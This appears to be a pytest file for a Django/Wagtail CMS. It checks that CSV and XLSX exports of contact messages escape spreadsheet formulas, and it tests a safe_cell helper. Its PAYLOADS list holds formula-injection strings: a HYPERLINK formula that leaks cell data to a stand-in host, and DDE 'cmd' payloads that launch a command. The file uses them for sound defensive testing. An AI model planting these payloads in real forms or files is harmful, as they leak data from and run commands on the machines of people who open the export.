"""The CMS export of contact messages (CSV and XLSX) must not hand spreadsheet formulas to
whoever opens it."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from cms.actions import submit_contact_message
from cms.models import ContactPage
from portal.accounts.actions import create_user_with_verified_email
from portal.spreadsheets import safe_cell
from tests.accounts.helpers import enable_totp

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def messages_with_formulas(contact_site):
    page = ContactPage.objects.get()
    for payload in PAYLOADS:
        submit_contact_message(
            page=page,
            data={
                "your_name": payload,
                "your_e_mail_address": "sender@example.org",
                "organisation": payload,
                "subject": "Formula",
                "your_message": payload,
            },
        )
    return page


@pytest.fixture
def editor_client(client):
    editor = create_user_with_verified_email(
        email="editor@pomisa.example", password="a long password 1", is_superuser=True
    )
    enable_totp(editor)
    client.force_login(editor)
    return client


def export(client, page, export_format):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    response = client.get(url, {"export": export_format})
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_neutralised(rows):
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    for payload in PAYLOADS:
        assert cells.count("'" + payload) == 3, payload  # name, organisation and message
        assert payload not in cells
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_csv_export_neutralises_every_formula(editor_client, messages_with_formulas):
    content = export(editor_client, messages_with_formulas, "csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == 1 + len(PAYLOADS)
    assert_neutralised(rows)


def test_the_xlsx_export_neutralises_every_formula(editor_client, messages_with_formulas):
    content = export(editor_client, messages_with_formulas, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 1 + len(PAYLOADS)
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert_neutralised(rows)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0958", "'+44 20 7946 0958"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12", "-12"),  # a negative number stays a number
        ("-12.5", "-12.5"),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
        ("Plain text = fine", "Plain text = fine"),
        ("", ""),
    ],
)
def test_a_cell_is_neutralised_only_when_it_could_be_a_formula(value, cell):
    assert safe_cell(value) == cell
